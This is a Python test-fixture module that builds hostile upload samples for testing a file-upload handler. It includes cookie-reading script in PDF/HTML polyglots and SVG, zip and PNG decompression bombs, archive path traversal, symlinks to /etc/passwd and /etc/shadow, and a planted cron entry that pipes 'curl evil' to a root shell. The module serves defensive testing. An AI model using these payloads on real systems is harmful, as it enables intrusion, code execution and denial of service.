"""Files for upload tests, built here so every byte of every sample is visible."""

from __future__ import annotations

import io
import re
import struct
import tarfile
import zipfile
import zlib

from PIL import Image

_PDF_OBJECTS = (
    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
)


def _assemble(objects: bytes) -> bytes:
    """A well-formed PDF around `objects` (`N 0 obj ... endobj`, one per line start): the
    cross-reference table is computed from where each object begins."""
    body = b"%PDF-1.4\n" + objects
    offsets = {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", body)}
    size = max(offsets) + 1
    xref = b"xref\n0 %d\n" % size + b"".join(
        b"%010d 00000 n \n" % offsets[i] if i in offsets else b"0000000000 65535 f \n"
        for i in range(size)
    )
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))
    return body + xref + trailer


MINIMAL_PDF = _assemble(_PDF_OBJECTS)


def pdf(body: bytes = b"") -> bytes:
    """MINIMAL_PDF with more objects (`body`, starting at object 4)."""
    return _assemble(_PDF_OBJECTS + body + b"\n")


def png(width: int = 64, height: int = 48, color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, format="PNG")
    return out.getvalue()


def jpeg(width: int = 64, height: int = 48, *, exif_gps: bool = False) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", (width, height), (10, 120, 200))
    if exif_gps:
        exif = Image.Exif()
        exif[0x010F] = "SpyCam Inc."  # Make
        exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0)}  # GPS IFD
        image.save(out, format="JPEG", exif=exif)
    else:
        image.save(out, format="JPEG")
    return out.getvalue()


def webp(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (0, 200, 0)).save(out, format="WEBP")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims `width` x `height` pixels but holds one compressed row: a bomb's header."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    chunks = _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def windows_exe() -> bytes:
    # DOS header ("MZ"), e_lfanew -> "PE\0\0", a machine type: enough for any loader to try it.
    header = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56)
    header[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(header) + b"PE\x00\x00" + struct.pack("<H", 0x8664) + b"\x00" * 200


HTML_PDF_POLYGLOT = pdf(b"% <html><body><script>alert(document.cookie)</script></body></html>")
HTML_FIRST_POLYGLOT = b"<html><script>alert(1)</script><!--\n" + MINIMAL_PDF + b"-->"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script><rect width='10' height='10'/></svg>"
)


def zip_bomb(uncompressed_mib: int = 64) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("bomb.bin", "w", force_zip64=True) as member,
    ):
        block = b"\x00" * (1024 * 1024)
        for _ in range(uncompressed_mib):
            member.write(block)
    return out.getvalue()


def zip_many_entries(count: int = 100_000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for i in range(count):
            zf.writestr(f"{i:x}", b"")
    return out.getvalue()


def zip_with_traversal_and_symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("../../etc/cron.d/evil", b"* * * * * root curl evil | sh\n")
        link = zipfile.ZipInfo("link-to-passwd")
        link.external_attr = (0o120777 << 16)  # S_IFLNK
        zf.writestr(link, "/etc/passwd")
    return out.getvalue()


def tar_with_symlink() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tf:
        info = tarfile.TarInfo("link")
        info.type = tarfile.SYMTYPE
        info.linkname = "../../../etc/shadow"
        tf.addfile(info)
        data = b"x"
        member = tarfile.TarInfo("../escape.txt")
        member.size = len(data)
        tf.addfile(member, io.BytesIO(data))
    return out.getvalue()
